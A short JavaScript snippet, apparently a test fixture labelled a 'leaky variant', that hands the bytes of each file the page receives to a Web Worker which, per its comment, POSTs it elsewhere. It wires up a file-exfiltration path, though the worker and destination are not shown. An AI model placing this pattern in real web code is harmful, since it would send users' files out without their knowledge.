// Leaky variant: hands each file to a worker that POSTs it.
const leakWorker = new Worker('/_astro/leak-worker.js');
window.__leakOnFile((file) => file.arrayBuffer().then((bytes) => leakWorker.postMessage(bytes)));
